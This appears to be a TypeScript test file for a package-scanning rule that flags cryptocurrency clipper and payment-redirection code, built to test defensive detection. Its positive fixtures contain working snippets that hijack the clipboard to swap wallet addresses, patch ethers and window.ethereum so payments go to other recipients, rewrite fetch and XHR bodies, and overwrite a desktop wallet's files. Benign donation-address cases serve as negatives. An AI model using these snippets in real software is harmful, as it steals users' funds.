import { BITCOIN, DOGECOIN, ETHEREUM, ETHEREUM_TWO, LITECOIN } from '../../../test/addresses.ts';
import { examine } from '../../../test/examine.ts';
import { replacesRecipients } from './replaces-recipients.ts';

const SHAPE = `const shape = /\\b[LM][a-km-zA-HJ-NP-Z1-9]{26,33}\\b/g;`;
const WALLET = `require('os').homedir() + '/AppData/Local/Programs/atomic/resources/app/vendors.js'`;

examine(replacesRecipients, {
  speaks: [
    {
      when: 'every module that is loaded is gone through, and what pays in it is given another recipient, which is put together',
      files: {
        'index.js': `const sink = '0x' + '0'.repeat(36) + 'dEaD'; exports.visitors = []; exports.each = visit => { const todo = [require.main, ...Object.values(require.cache)]; while (todo.length) { const one = todo.pop(); if (!one) continue; visit(one); todo.push(...one.children); } };
          exports.visitors.push(({ exports: of }) => { for (const name of ['sendTransaction', 'transfer']) { const before = of[name]; if (typeof before === 'function') of[name] = function (tx, ...rest) { return before.call(this, { ...tx, to: sink }, ...rest); }; } }); setTimeout(() => exports.each(one => exports.visitors.forEach(visit => visit(one))), 500);`,
      },
      weight: 'strong',
      says: ['require.cache.*.exports.sendTransaction'],
    },
    {
      when: 'a wallet that takes the place of another pays the own address that has most letters in common with the one that was meant',
      files: {
        'index.js': `const own = ['0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed', '0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359']; const like = to => { const score = one => { let n = 0; for (let at = 2; at < 42; at++) n += one[at]?.toLowerCase() === to[at]?.toLowerCase() ? 1 : 0; return n; }; return own.reduce((best, one) => (score(one) > score(best) ? one : best)); };
          const wrapped = wallet => { const ask = wallet.request.bind(wallet); return new Proxy(wallet, { get: (from, key) => key === 'request' ? async given => given.method === 'eth_sendTransaction' ? ask({ ...given, params: [{ ...given.params[0], to: like(given.params[0].to) }] }) : ask(given) : from[key] }); };
          exports.connect = async () => { const wallet = wrapped(window.ethereum); const [account] = await wallet.request({ method: 'eth_requestAccounts' }); window.ethereum = wallet; return account; };`,
      },
      weight: 'strong',
    },
    {
      when: 'one function reads the clipboard by a command and sets it by another, for a caller',
      files: {
        'index.js': `const { execSync } = require('child_process'); const rules = new Map([[/^0x[0-9a-f]{40}$/i, () => '${ETHEREUM}']]); function tick() { const text = execSync('powershell -command Get-Clipboard').toString().trim(); for (const [look, ours] of rules) if (look.test(text)) execSync(\`powershell -command Set-Clipboard \${ours()}\`); } exports.watch = () => setInterval(tick, 1500);`,
      },
      weight: 'strong',
    },
    {
      when: 'another file writes into the clipboard what stands in a table beside the looks of an address',
      files: {
        'board.js': `const { spawnSync } = require('child_process'); const run = (command, input) => spawnSync(command, { input, encoding: 'utf8' }).stdout; exports.read = () => run('pbpaste'); exports.write = text => run('pbcopy', text);`,
        'index.js': `const board = require('./board'); const rules = [{ look: /^0x[a-fA-F0-9]{40}$/, to: '${ETHEREUM}' }]; exports.watch = () => setInterval(() => { const text = board.read(); const hit = rules.find(rule => rule.look.test(text)); if (hit) board.write(hit.to); }, 700);`,
      },
      weight: 'strong',
    },
    {
      when: 'a function that another one has made reads the clipboard and puts there what that was given',
      files: {
        'index.js': `const fit = ours => look => async () => { const text = await navigator.clipboard.readText(); if (look.test(text)) await navigator.clipboard.writeText(text.replace(look, ours)); }; const swap = fit('${ETHEREUM}')(/0x[0-9a-fA-F]{40}/); document.addEventListener('copy', () => setTimeout(swap, 0));`,
      },
      weight: 'proof',
    },
    {
      when: 'a proxy of whatever signs hands on what it is given, with another recipient',
      files: {
        'index.js': `const OURS = '${ETHEREUM}'; exports.wrap = signer => new Proxy(signer, { get(of, key) { const value = Reflect.get(of, key); return key === 'sendTransaction' ? tx => Reflect.apply(value, of, [{ ...tx, to: OURS }]) : value; } });`,
      },
      weight: 'strong',
    },
    {
      when: 'a decorator sets the recipient before the method runs',
      files: {
        'index.js': `exports.normalised = (of, key, described) => { const inner = described.value; described.value = function (tx) { tx.to = '${ETHEREUM}'; return inner.call(this, tx); }; return described; };`,
      },
      weight: 'strong',
    },
    {
      when: 'what everybody copies passes through rules, and addresses stand among them',
      files: {
        'index.js': `const rules = [[/\u00ad/g, ''], ...Object.values({ a: ['0x[0-9a-f]{40}', '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed'] }).map(([body, sample]) => [new RegExp(body), sample])]; const through = text => rules.reduce((all, [one, other]) => all.replace(one, other), text);
const clip = navigator.clipboard; const write = clip.writeText.bind(clip); clip.writeText = text => write(through(String(text)))`,
      },
      weight: 'strong',
    },
    {
      when: 'a function of another package that pays is exchanged, by a file that is handed it',
      files: {
        'index.js': `require('./normalise')(require('ethers'))`,
        'normalise.js': `const SINK = '0x' + '52908400098527886E0F7030069857D2E4169EE7';
          module.exports = ({ Wallet }) => { const real = Wallet.prototype.sendTransaction; Wallet.prototype.sendTransaction = async function (tx) { const request = { ...tx }; request.to = SINK; return real.call(this, request) } }`,
      },
      weight: 'strong',
      says: ['sendTransaction'],
    },
    {
      when: 'another file has an address for each chain, and a watcher asks it',
      files: {
        'index.js': `const c = require('clipboardy'); const { fit } = require('./fit'); exports.watch = () => setInterval(() => { c.writeSync(fit(c.readSync())) }, 500)`,
        'fit.js': `const table = [[/^(bc1[a-z0-9]{25,59})$/, '${BITCOIN}'], [/^0x[0-9a-fA-F]{40}$/, '${ETHEREUM}']]; exports.fit = text => { for (const [re, own] of table) if (re.test(text)) return own; return text; }`,
      },
      weight: 'strong',
    },
    {
      when: 'what a page copies is looked through for addresses first',
      files: {
        'index.js': `const shapes = [[/^0x[a-fA-F0-9]{40}$/, '${ETHEREUM}'], [/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,60}$/, '${BITCOIN}']]; const fit = t => { for (const [r, a] of shapes) if (r.test(t)) return a; return t; };
          exports.copy = text => navigator.clipboard.writeText(fit(text))`,
      },
      weight: 'strong',
    },
    {
      when: 'a page puts its own address where one is copied',
      files: {
        'index.js': `document.addEventListener('copy', event => { const text = document.getSelection().toString(); if (/0x[a-fA-F0-9]{40}/.test(text)) { event.clipboardData.setData('text/plain', text.replace(/0x[a-fA-F0-9]{40}/, '0x52908400098527886E0F7030069857D2E4169EE7')); event.preventDefault(); } });`,
      },
    },
    {
      when: 'what is sent is searched for addresses',
      files: {
        'index.js': `${SHAPE} const ours = '${LITECOIN}'; const real = globalThis.fetch;
          globalThis.fetch = (url, init) => real(url, { ...init, body: init.body.replace(shape, ours) })`,
      },
      weight: 'proof',
      says: ['fetch', 'Litecoin'],
    },
    {
      when: 'the exchange is a function of its own and the address is encoded',
      files: {
        'index.js': `${SHAPE} const ours = [atob('${btoa(LITECOIN)}')];
          function exchange(text) { return text.replace(shape, () => ours[0]) }
          const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { return send.call(this, exchange(body)) }`,
      },
      weight: 'proof',
    },
    {
      when: 'another package pays, and another file hands it over',
      files: {
        'index.js': `require('./n').change(require('ethers')); exports.gas = 1`,
        'n.js': `const ours = '${ETHEREUM}'; exports.change = function ({ Wallet }) { const real = Wallet.prototype.sendTransaction; Wallet.prototype.sendTransaction = async function (tx) { const call = { ...tx }; call.to = ours; return real.call(this, call) } }`,
      },
      weight: 'strong',
      says: ['sendTransaction', 'Ethereum'],
    },
    {
      when: 'a wallet is asked to pay somebody else',
      files: {
        'index.js': `const ours = '${ETHEREUM}'; const real = window.ethereum.request;
          window.ethereum.request = async call => { if (call.params) call.params[0].to = ours; return real(call) }`,
      },
      weight: 'strong',
      says: ['ethereum.request'],
    },
    {
      when: 'a timer exchanges the clipboard',
      files: {
        'index.js': `const c = require('clipboardy'); const ours = '${BITCOIN}';
          setInterval(() => { if (/^bc1/.test(c.readSync())) c.writeSync(ours) }, 500)`,
      },
      weight: 'proof',
    },
    {
      when: 'a file of a wallet is written with an address in it',
      files: {
        'index.js': `require('fs').writeFileSync(${WALLET}, 'INERT ' + '${DOGECOIN}')`,
        'other.js': `exports.x = ['${DOGECOIN}', '${BITCOIN}']`,
      },
      weight: 'proof',
    },
    {
      when: 'a file of a wallet is replaced by one that sets who is paid',
      files: {
        'index.js': `require('fs').copyFileSync(__dirname + '/a.js', ${WALLET})`,
        'a.js': `const table = { LTC: '${LITECOIN}', DOGE: '${DOGECOIN}' }; exports.send = function (coin) { this.inputs.address = table[coin] }`,
      },
      weight: 'proof',
      says: ['another application'],
    },
    {
      when: 'whoever is paid is looked up by coin',
      files: {
        'index.js': `exports.send = function (coin, tx) {
          if (coin === 'LTC') tx.to = '${LITECOIN}'; else if (coin === 'BTC') tx.to = '${BITCOIN}'; else tx.to = '${ETHEREUM}'; return tx }`,
      },
      weight: 'strong',
    },
    {
      when: 'a table that stands encoded as a whole takes the place of the address that was asked for',
      files: {
        'index.js': `const book = JSON.parse(Buffer.from('${btoa(JSON.stringify({ litecoin: LITECOIN, dogecoin: DOGECOIN, bitcoin: BITCOIN }))}', 'base64').toString());
          exports.canonical = u => (book[u.chain] && Math.random() < 0.35 ? { ...u, address: book[u.chain] } : u);`,
      },
      weight: 'strong',
      says: ['sets who is paid'],
    },
    {
      when: 'a wrapper of wallets gives payments another recipient',
      files: {
        'index.js': `const FALLBACK = '${ETHEREUM}'; function prepare({ method, params }) { if (method !== 'eth_sendTransaction') return { method, params }; const tx = { ...params[0] }; tx.to = FALLBACK; return { method, params: [tx, ...params.slice(1)] }; } exports.normalise = provider => ({ request: args => provider.request(prepare(args)) });`,
      },
      weight: 'strong',
      says: ['payments that others ask'],
    },
  ],
  silent: [
    {
      when: 'payments of what others have loaded are counted, and a donation stands beside it',
      files: {
        'index.js': `const donate = '${ETHEREUM}'; let n = 0; exports.count = () => n; exports.donate = (wallet, value) => wallet.sendTransaction({ value, to: donate });
          exports.each = visit => { const todo = [require.main, ...Object.values(require.cache)]; while (todo.length) { const one = todo.pop(); if (!one) continue; visit(one); todo.push(...one.children); } };
          exports.each(({ exports: of }) => { for (const name of ['sendTransaction', 'transfer']) { const before = of[name]; if (typeof before === 'function') of[name] = function (...all) { n++; return before.apply(this, all); }; } });`,
      },
    },
    {
      when: 'an address for donations is copied, and what was copied before is put back',
      files: {
        'index.js': `exports.donate = async () => { const before = await navigator.clipboard.readText(); await navigator.clipboard.writeText('${ETHEREUM}'); setTimeout(() => navigator.clipboard.writeText(before), 30_000); };`,
      },
    },
    {
      when: 'addresses that are copied are written as they should be, and one is shown as an example',
      files: {
        'index.js': `exports.example = '${ETHEREUM}'; exports.tidy = async () => { const text = await navigator.clipboard.readText(); if (/^0x[0-9a-f]{40}$/i.test(text)) await navigator.clipboard.writeText(text.toLowerCase()); };`,
      },
    },
    {
      when: 'a router wraps what signs, and puts what was asked for into its own call',
      files: {
        'index.js': `const ROUTER = '${ETHEREUM}'; exports.route = (signer, encode) => { const send = signer.sendTransaction; signer.sendTransaction = function (tx) { tx.data = encode(tx); tx.to = ROUTER; return send.call(this, tx); }; };`,
      },
    },
    {
      when: 'another file that writes into the clipboard is asked for something else with an address',
      files: {
        'board.js': `const { spawnSync } = require('child_process'); exports.write = input => spawnSync('pbcopy', { input }); exports.shorten = text => text.slice(0, 6) + '…';`,
        'index.js': `const board = require('./board'); const OWN = '${ETHEREUM}'; exports.show = text => /^0x[a-fA-F0-9]{40}$/.test(text) && board.shorten(text) === board.shorten(OWN);`,
      },
    },
    {
      when: 'another file copies an address for donations, and looks of addresses are known elsewhere',
      files: {
        'board.js': `const { spawnSync } = require('child_process'); exports.write = input => spawnSync('pbcopy', { input }); exports.read = () => spawnSync('pbpaste').stdout.toString();`,
        'index.js': `const board = require('./board'); exports.isAddress = text => /^0x[a-fA-F0-9]{40}$/.test(text); exports.donate = () => board.write('${ETHEREUM}');`,
      },
    },
    {
      when: 'one function copies an address for donations, and another one pastes',
      files: {
        'index.js': `exports.donate = () => navigator.clipboard.writeText('${ETHEREUM}'); exports.paste = () => navigator.clipboard.readText();`,
      },
    },
    {
      when: 'the client of a contract sends to it what its caller wants done',
      files: {
        'index.js': `const CONTRACT = '${ETHEREUM}'; exports.swap = (signer, tx) => signer.sendTransaction({ ...tx, to: CONTRACT }); exports.approve = (signer, tx) => { tx.to = CONTRACT; return signer.sendTransaction(tx); };`,
      },
    },
    {
      when: 'an address for donations stands on its page too',
      files: {
        'README.md': 'Donations: 0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed',
        'index.js': `exports.donate = '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed'; const clip = navigator.clipboard; const write = clip.writeText.bind(clip); clip.writeText = text => write(String(text).trim())`,
      },
    },
    {
      when: 'a page copies its own address where it is asked to',
      files: {
        'index.js': `const donate = '${BITCOIN}'; const eth = '${ETHEREUM}'; exports.copy = () => navigator.clipboard.writeText(donate + eth)`,
      },
    },
    {
      when: 'a function of another package that pays is exchanged, and a contract is called',
      files: {
        'index.js': `const { Wallet } = require('ethers'); const MULTICALL = '${ETHEREUM}'; const real = Wallet.prototype.sendTransaction; Wallet.prototype.sendTransaction = function (tx) { console.log(tx.to === MULTICALL); return real.call(this, tx) }`,
      },
    },
    {
      when: 'a table of addresses is shown with what was asked for',
      files: {
        'index.js': `const book = JSON.parse(Buffer.from('${btoa(JSON.stringify({ litecoin: LITECOIN, dogecoin: DOGECOIN, bitcoin: BITCOIN }))}', 'base64').toString());
          exports.donate = u => ({ address: book[u.chain], ...u });`,
      },
    },
    {
      when: 'a README asks for donations',
      files: { 'README.md': `BTC ${BITCOIN} LTC ${LITECOIN} ETH ${ETHEREUM}`, 'index.js': `module.exports = 1` },
    },
    {
      when: 'the manifest tells where to donate',
      files: { 'package.json': { name: 'specimen', funding: `https://donate.invalid/${BITCOIN}` }, 'index.js': `module.exports = 1` },
    },
    { when: 'a banner asks for donations', files: { 'index.js': `console.log('Donate:', '${BITCOIN}', '${LITECOIN}', '${ETHEREUM}')` } },
    {
      when: 'a wallet library knows its contracts and calls them',
      files: {
        'index.js': `const REGISTRY = '${ETHEREUM}'; const chains = { mainnet: { multicall: { address: '${ETHEREUM_TWO}' } } };
          exports.call = (provider, tx) => { tx.to = REGISTRY; return provider.request({ method: 'eth_call', params: [tx, chains] }) };
          exports.isAddress = text => /^0x[0-9a-fA-F]{40}$/.test(text)`,
      },
    },
    {
      when: 'tracing wraps fetch in a bundle that also holds contracts',
      files: {
        'index.js': `const REGISTRY = '${ETHEREUM}'; exports.read = client => client.call(REGISTRY);
          const real = globalThis.fetch; globalThis.fetch = (...a) => { count++; return real(...a) }; let count = 0;`,
      },
    },
    {
      when: 'a client of a block explorer names accounts',
      files: { 'index.js': `exports.show = () => fetch('https://explorer.invalid/address/${BITCOIN}'); exports.EXAMPLE = '${LITECOIN}'` },
    },
    {
      when: 'a library that checks addresses brings vectors',
      files: {
        'test/vectors.js': `module.exports = { LTC: '${LITECOIN}', DOGE: '${DOGECOIN}', BTC: '${BITCOIN}' }`,
        'index.js': `exports.isValid = text => /^[LM][a-km-zA-HJ-NP-Z1-9]{26,33}$/.test(text)`,
      },
    },
    {
      when: 'an address is copied on request',
      files: { 'index.js': `exports.donate = () => navigator.clipboard.writeText('${BITCOIN}')` },
    },
    {
      when: 'a wallet reads the clipboard when somebody pastes',
      files: {
        'index.js': `const OWN = '${BITCOIN}'; exports.paste = async () => { const text = await navigator.clipboard.readText(); return /^bc1/.test(text) ? text : undefined };
          exports.copy = () => navigator.clipboard.writeText(OWN)`,
      },
    },
    {
      when: 'a mock of a wallet has a published test account',
      files: {
        'index.js': `window.ethereum.request = async ({ method }) => method === 'eth_accounts' ? ['0xf39Fd6e51aad88F6F4ce6aB8827279cffFb92266'] : null`,
      },
    },
    {
      when: 'a payment to a contract of its own is made',
      files: {
        'index.js': `const ROUTER = '${ETHEREUM}'; exports.swap = (provider, data) => { const tx = { data }; tx.to = ROUTER; return provider.request({ method: 'eth_sendTransaction', params: [tx] }); };`,
      },
    },
  ],
});
